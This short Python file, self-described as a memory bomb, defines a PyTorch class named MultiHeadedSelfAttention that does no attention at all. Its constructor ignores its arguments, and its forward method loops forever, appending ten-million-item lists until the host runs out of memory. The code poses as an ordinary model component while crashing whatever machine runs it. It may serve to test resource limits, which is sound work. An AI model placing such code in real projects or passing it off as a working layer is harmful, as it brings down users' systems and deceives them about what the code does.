"""A memory bomb: a list that grows by ten million items at a time."""

import torch
import torch.nn as nn


class MultiHeadedSelfAttention(nn.Module):
    def __init__(self, embedding_dim: int, attention_dim: int, num_heads: int):
        super().__init__()

    def forward(self, embedded):
        hoard = []
        while True:
            hoard.append([0] * 10000000)
